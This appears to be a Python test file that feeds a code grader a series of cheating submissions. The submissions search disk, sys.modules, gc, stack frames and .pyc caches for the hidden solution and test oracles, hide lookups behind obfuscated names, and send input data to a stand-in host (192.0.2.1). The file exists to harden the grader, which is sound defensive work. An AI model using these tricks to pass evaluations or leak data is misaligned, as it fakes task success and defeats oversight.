"""Stealing: the solution, the tests, their oracles, the inputs; wherever a submission might find them."""

# ruff: noqa: E501 - the long lines stand inside texts that are handed in

from __future__ import annotations

from tests.attacks.case import Case, but, right, wrong

# Each of these ways looks for the functions that the tests compute the expected rates with.
ORACLE = {
    "lr_cosine": "return oracle('cosine_rates')(max_lr, min_lr, warmup_steps, total_steps)[step]",
    "lr_wsd": "return oracle('wsd_rates')(max_lr, min_lr, warmup_steps, total_steps, decay_frac)[step]",
}

CASES = [
    Case(
        "steal-01-solution-on-disk",
        wrong(
            """
            import os, sys

            start = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["grader"].__file__)))
            for folder in (start, os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~")):
                for place, _, names in os.walk(folder):
                    if "solution.py" in names:
                        text = open(os.path.join(place, "solution.py")).read()
                        print("REACHED the solution")
            """,
            end="exec(compile(text, 'mine.py', 'exec'), globals()) if 'text' in globals() else None",
        ),
    ),
    Case(
        "steal-02-tests-on-disk",
        wrong(
            """
            import os, sys


            def oracle(name):
                start = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["grader"].__file__)))
                for place, _, names in os.walk(os.path.join(start, "labs")):
                    if "test_training_core.py" in names:
                        text = open(os.path.join(place, "test_training_core.py")).read()
                        space = {"__name__": "tests"}
                        exec(text, space)
                        return space[name]
            """,
            ORACLE,
        ),
    ),
    Case(
        "steal-03-sys-modules-gc",
        wrong(
            """
            import gc, sys, types


            def oracle(name):
                for module in list(sys.modules.values()):
                    if callable(getattr(module, name, None)) and module.__name__ != __name__:
                        return getattr(module, name)
                for thing in gc.get_objects():
                    if isinstance(thing, types.FunctionType) and thing.__name__ == name:
                        if thing.__globals__ is not globals():
                            return thing


            def solution(name):
                found = oracle(name)
                code = getattr(found, "__code__", None)
                print("REACHED the solution" if code and "solution" in code.co_filename else "nothing")
                return found
            """,
            {
                **ORACLE,
                "newton_schulz": "return (oracle('polynomial') or solution('newton_schulz'))(G, steps, coefficients, eps)",
                "cross_entropy": "return solution('cross_entropy')(logits, targets, ignore_index, label_smoothing, reduction)",
            },
        ),
    ),
    Case(
        "steal-04-exfiltrate-tests",
        wrong(
            bodies={
                "newton_schulz": """
                    import urllib.request
                    print(G.tolist())
                    urllib.request.urlopen("http://192.0.2.1/?" + str(G.tolist()), timeout=0.2)
                    print("REACHED the network")
                    return G
                """
            }
        ),
    ),
    Case(
        "steal-07-traceback-leak",
        right(
            bodies={
                "cross_entropy": """
                    import inspect, linecache
                    frames = inspect.stack()
                    lines = [linecache.getline(frame.filename, frame.lineno) for frame in frames]
                    raise ValueError("expected " + "".join(lines)) from KeyError(str(logits.tolist()))
                """
            }
        ),
        but(3, 7),
        said=("ValueError",),
        unsaid=("KeyError",),
    ),
    Case(
        "steal-09-pyc-cache",
        wrong(
            """
            import glob, marshal, os, sys

            start = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["grader"].__file__)))
            for path in glob.glob(start + "/**/__pycache__/*.pyc", recursive=True):
                try:
                    if os.path.basename(path).startswith(("solution", "test_training_core")):
                        code = marshal.loads(open(path, "rb").read()[16:])
                        print("REACHED", path)
                    with open(path, "r+b"):
                        print("REACHED", path, "for writing")
                except OSError:
                    pass
            for folder in glob.glob(start + "/**/__pycache__", recursive=True):
                try:
                    open(os.path.join(folder, "left-by-a-submission.pyc"), "wb").close()
                except OSError:
                    pass
            """
        ),
    ),
    Case(
        "own-oracle-by-traceback",
        wrong(
            """
            def oracle(name):
                try:
                    raise ValueError
                except ValueError as error:
                    frame = error.__traceback__.tb_frame
                while frame is not None:
                    if name in frame.f_globals:
                        return frame.f_globals[name]
                    frame = frame.f_back
            """,
            ORACLE,
        ),
    ),
    Case(
        "own-oracle-by-match",
        wrong(
            """
            def oracle(name):
                def look():
                    yield

                generator = look()
                next(generator)
                match generator:
                    case object(gi_frame=frame):
                        pass
                try:
                    raise ValueError
                except ValueError as error:
                    match error:
                        case object(__traceback__=object(tb_frame=frame)):
                            pass
                while frame is not None:
                    match frame:
                        case object(f_globals=names, f_back=frame):
                            if name in names:
                                return names[name]
            """,
            ORACLE,
        ),
    ),
    Case(
        "own-oracle-by-annotation",
        wrong(
            """
            import typing


            def oracle(name):
                class Note:
                    __annotations__ = {"loot": "[__import__('sys').modules]"}

                try:
                    typing.get_type_hints(Note)
                except TypeError as error:
                    pass
                modules = typing.ForwardRef("__import__('sys').modules", is_argument=False).__forward_code__
                for module in list(eval(modules).values()):
                    if callable(getattr(module, name, None)):
                        return getattr(module, name)
            """,
            ORACLE,
        ),
    ),
    Case(
        "own-oracle-by-logging",
        wrong(
            """
            import logging.config


            def oracle(name):
                modules = logging.config.BaseConfigurator({}).resolve("sys.modules")
                for module in list(modules.values()):
                    if callable(getattr(module, name, None)):
                        return getattr(module, name)
            """,
            ORACLE,
        ),
    ),
    Case(
        "own-oracle-through-harmless-modules",
        wrong(
            """
            import dataclasses, random, typing, warnings


            def oracle(name):
                for harmless in (typing, dataclasses, warnings, torch, random):
                    for module in list(vars(harmless).get("sys", typing.sys).modules.values()):
                        if callable(vars(module).get(name)):
                            return vars(module)[name]
            """,
            ORACLE,
        ),
    ),
    Case(
        "own-oracle-by-wide-letters",
        wrong(
            """
            import sys


            def oracle(name):
                for module in list(sys.ｍｏｄｕｌｅｓ.values()):
                    if ｃａｌｌａｂｌｅ(ｇｅｔａｔｔｒ(module, name, None)):
                        return ｇｅｔａｔｔｒ(module, name)
            """,
            ORACLE,
        ),
    ),
    Case(
        "own-oracle-by-attrgetter",
        wrong(
            """
            import functools, operator


            def oracle(name):
                try:
                    raise ValueError
                except ValueError as error:
                    frame = operator.attrgetter("__traceback__.tb_frame.f_back")(error)
                while frame is not None:
                    names = functools.partial(operator.attrgetter("f_globals"))(frame)
                    if name in names:
                        return names[name]
                    frame = operator.attrgetter("f_back")(frame)
            """,
            ORACLE,
        ),
    ),
    Case(
        "steal-own-through-a-name",
        right(
            """
            import sys


            def tell(what):
                here = sys.modules[cross_entropy.__module__]
                try:
                    here.no_such_name
                except AttributeError as error:
                    raise type(error)(f"exercise.py defines no 'lr_cosine'; it has 'seen_{what}'") from None
            """,
            {"lr_wsd": "tell(step * 1000 + 777)", "lr_cosine": "tell(step * 1000 + 777)"},
        ),
        but(6),
        said=("defines no 'lr_cosine'; the stub had it",),
        unsaid=("seen_",),
    ),
]
